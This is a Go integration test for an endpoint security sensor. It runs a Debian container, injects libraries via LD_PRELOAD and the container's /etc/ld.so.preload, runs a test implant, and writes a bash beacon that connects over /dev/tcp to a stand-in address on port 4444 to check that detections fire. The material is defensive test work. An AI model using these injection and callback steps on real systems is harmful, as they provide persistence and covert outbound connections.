package agent

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/argus-sensor/argus-sensor/event"
	"github.com/argus-sensor/argus-sensor/internal/testutil"
)

// TestContainer runs a real podman (runc) container of a Debian image,
// joined to the client side of a namespace pair:
//   - a packaged binary run in it is named by the container and judged
//     package_verified by the container's own dpkg database;
//   - an implant copied into the running container's /usr/local/bin that
//     connects to 192.0.2.1:4444 is unowned, in the container_upper class,
//     and gives one T1587 detection whose records name the container.
func TestContainer(t *testing.T) {
	image := testutil.PodmanDebian(t)
	n := testutil.NewNetPair(t)
	n.Listen(t, testutil.ServerV4+":4444")
	dir, _ := filepath.EvalSymlinks(t.TempDir())
	name, id := testutil.PodmanRun(t, image, "/run/netns/"+n.Client)

	out, stop := startAgent(t, dir)
	stopped := false
	defer func() {
		if !stopped {
			stop()
		}
	}()

	inContainer := func(r *event.Record) bool {
		return r.Process != nil && r.Process.Container != nil && r.Process.Container.ID == id
	}
	checkContainer := func(what string, p *event.Process) {
		t.Helper()
		c := p.Container
		if c == nil || c.ID != id || c.Runtime != "podman" || c.Name != name || c.Image != image || len(c.ImageID) != 64 {
			t.Errorf("%s: container %+v, want id %s podman %s image %s and its id", what, c, id, name, image)
		}
		if p.K8s != nil {
			t.Errorf("%s: k8s %+v for a plain podman container", what, p.K8s)
		}
	}

	testutil.Podman(t, "exec", name, "dpkg-query", "--version")
	launch := out.await(t, "launch of dpkg-query in the container", func(r *event.Record) bool {
		return r.Kind == event.KindProcessLaunch && inContainer(r) && r.Process.Exe.Path == "/usr/bin/dpkg-query" &&
			r.Process.Exe.Trust != nil
	})
	checkContainer("dpkg-query", launch.Process)
	if x := launch.Process.Exe; x.SHA256 == "" || x.Trust.Verdict != "package_verified" || x.Trust.Package != "dpkg" ||
		slices.Contains(x.PathClasses, "container_upper") {
		t.Errorf("dpkg-query in the container: sha256 %q classes %v trust %+v", x.SHA256, x.PathClasses, x.Trust)
	}

	// The libraries its processes map are the container's files, hashed
	// through its root and judged by its dpkg, not the host's.
	libc := out.await(t, "libc mapped in the container", func(r *event.Record) bool {
		return r.Kind == event.KindLibraryLoad && inContainer(r) && strings.HasSuffix(r.Library.Path, "/libc.so.6") &&
			r.Library.Trust != nil
	})
	checkContainer("libc library_load", libc.Process)
	sumOut, err := exec.Command("podman", "exec", name, "sha256sum", libc.Library.Path).Output()
	if err != nil {
		t.Fatalf("sha256sum in the container: %v", err)
	}
	if l := libc.Library; l.SHA256 == "" || !strings.HasPrefix(string(sumOut), l.SHA256) ||
		l.Trust.Verdict != "package_verified" || !strings.HasPrefix(l.Trust.Package, "libc6") {
		t.Errorf("container libc %s: sha256 %q (the container's: %.64s) trust %+v, want the container's file, package_verified by libc6",
			l.Path, l.SHA256, sumOut, l.Trust)
	}
	// A library dropped into the container and preloaded: unowned, in
	// the writable layer.
	gcc := needTool(t, "gcc", "gcc")
	inject := filepath.Join(dir, "inject.so")
	injectSHA := buildLibrary(t, gcc, inject, "container-"+id)
	testutil.Podman(t, "cp", inject, name+":/usr/local/lib/inject.so")
	testutil.Podman(t, "exec", "-e", "LD_PRELOAD=/usr/local/lib/inject.so", name, "dpkg-query", "--version")
	load := out.await(t, "the injected library's load in the container", func(r *event.Record) bool {
		return r.Kind == event.KindLibraryLoad && inContainer(r) && r.Library.Path == "/usr/local/lib/inject.so" && r.Library.Trust != nil
	})
	if l := load.Library; l.SHA256 != injectSHA || l.Trust.Verdict != "unowned" || !slices.Contains(l.PathClasses, "container_upper") ||
		l.Preload != "LD_PRELOAD" {
		t.Errorf("injected library: sha256 %q classes %v trust %+v preload %q, want %s unowned container_upper LD_PRELOAD",
			l.SHA256, l.PathClasses, l.Trust, l.Preload, injectSHA)
	}
	// Preloaded for every program of the container by the container's own
	// /etc/ld.so.preload (the host has none naming it).
	inject2 := filepath.Join(dir, "inject2.so")
	inject2SHA := buildLibrary(t, gcc, inject2, "container-preload-"+id)
	testutil.Podman(t, "cp", inject2, name+":/usr/local/lib/inject2.so")
	testutil.Podman(t, "exec", name, "sh", "-c", "echo /usr/local/lib/inject2.so > /etc/ld.so.preload")
	testutil.Podman(t, "exec", name, "dpkg-query", "--version")
	load2 := out.await(t, "the library the container's ld.so.preload names", func(r *event.Record) bool {
		return r.Kind == event.KindLibraryLoad && inContainer(r) && r.Library.Path == "/usr/local/lib/inject2.so" && r.Library.Trust != nil
	})
	// The list is read when the record is, so it goes only now.
	testutil.Podman(t, "exec", name, "rm", "/etc/ld.so.preload")
	if l := load2.Library; l.SHA256 != inject2SHA || l.Preload != "ld.so.preload" || !slices.Contains(l.PathClasses, "container_upper") {
		t.Errorf("library preloaded by the container's ld.so.preload: sha256 %q preload %q classes %v, want %s ld.so.preload container_upper",
			l.SHA256, l.Preload, l.PathClasses, inject2SHA)
	}

	tool, toolSHA := implant(t, dir, "implant", "in a container")
	testutil.Podman(t, "cp", tool, name+":/usr/local/bin/implant")
	c := exec.Command("podman", "exec", "-e", helperEnv+"=connect", name, "/usr/local/bin/implant", testutil.ServerV4+":4444")
	if b, err := c.CombinedOutput(); err != nil {
		t.Fatalf("implant in the container: %v %s", err, b)
	}
	det := out.await(t, "t1587 detection of the implant", func(r *event.Record) bool {
		return r.Kind == event.KindDetection && r.Detection.SHA256 == toolSHA
	})
	d := det.Detection
	if d.Rule != "t1587_develop_capabilities_unsigned_exec" || len(d.Events) != 2 {
		t.Fatalf("detection %+v", d)
	}
	for _, ev := range d.Events {
		checkContainer("detection event "+string(ev.Kind), ev.Process)
	}
	l := d.Events[0].Process.Exe
	if l.Path != "/usr/local/bin/implant" || l.Trust == nil || l.Trust.Verdict != "unowned" ||
		!slices.Contains(l.PathClasses, "container_upper") {
		t.Errorf("implant launch: path %s classes %v trust %+v", l.Path, l.PathClasses, l.Trust)
	}
	if n := d.Events[1].Network; n == nil || n.DstIP != testutil.ServerV4 || n.DstPort != 4444 {
		t.Errorf("implant connection: %+v", n)
	}

	// A script dropped into the container and run by its packaged bash,
	// connecting through bash's /dev/tcp. The host has a benign file at
	// the same path: the script must be the container's, judged by the
	// container's packages, in its writable layer.
	sdir := fmt.Sprintf("/opt/argus-test-%d", os.Getpid())
	benign := []byte("exit 0\n")
	if err := os.MkdirAll(sdir, 0o755); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(sdir) })
	if err := os.WriteFile(sdir+"/beacon.sh", benign, 0o644); err != nil {
		t.Fatal(err)
	}
	beacon := []byte(fmt.Sprintf("# %s\nexec 3<>/dev/tcp/%s/4444\necho hi >&3\nsleep 0.2\n", id, testutil.ServerV4))
	local := filepath.Join(dir, "beacon.sh")
	if err := os.WriteFile(local, beacon, 0o644); err != nil {
		t.Fatal(err)
	}
	testutil.Podman(t, "exec", name, "mkdir", "-p", sdir)
	testutil.Podman(t, "cp", local, name+":"+sdir+"/beacon.sh")
	testutil.Podman(t, "exec", name, "bash", sdir+"/beacon.sh")
	sum := sha256.Sum256(beacon)
	scriptSHA := hex.EncodeToString(sum[:])
	sdet := out.await(t, "t1587 detection of the container script", func(r *event.Record) bool {
		return r.Kind == event.KindDetection && r.Detection.SHA256 == scriptSHA
	})
	if d := sdet.Detection; d.Rule != "t1587_develop_capabilities_unsigned_exec" || len(d.Events) != 2 {
		t.Fatalf("script detection %+v", d)
	}
	for _, ev := range sdet.Detection.Events {
		checkContainer("script detection event "+string(ev.Kind), ev.Process)
		sc := ev.Process.Script
		if sc == nil || sc.Path != sdir+"/beacon.sh" || sc.SHA256 != scriptSHA || sc.Trust == nil ||
			sc.Trust.Verdict != "unowned" || !slices.Contains(sc.PathClasses, "container_upper") {
			t.Errorf("script detection event %s: script %+v, want %s/beacon.sh, the container's content, unowned, container_upper", ev.Kind, sc, sdir)
		} else if ex := ev.Process.Exe; ex.Trust == nil || ex.Trust.Verdict != "package_verified" {
			t.Errorf("bash in the container: trust %+v, want package_verified by the container's dpkg", ex.Trust)
		}
	}

	stop()
	stopped = true
	if got := out.detections(t, scriptSHA); got != 1 {
		t.Errorf("%d detections of the container script, want 1", got)
	}
	if got := out.detections(t, toolSHA); got != 1 {
		t.Errorf("%d detections of the implant, want 1", got)
	}
	var other []string
	for _, r := range out.records(t) {
		if r.Kind == event.KindDetection && inContainer(&event.Record{Process: r.Detection.Events[0].Process}) && r.Detection.SHA256 != toolSHA && r.Detection.SHA256 != scriptSHA {
			other = append(other, r.Detection.Events[0].Process.Exe.Path)
		}
	}
	if len(other) > 0 {
		t.Errorf("other detections in the container: %s", strings.Join(other, ", "))
	}
}
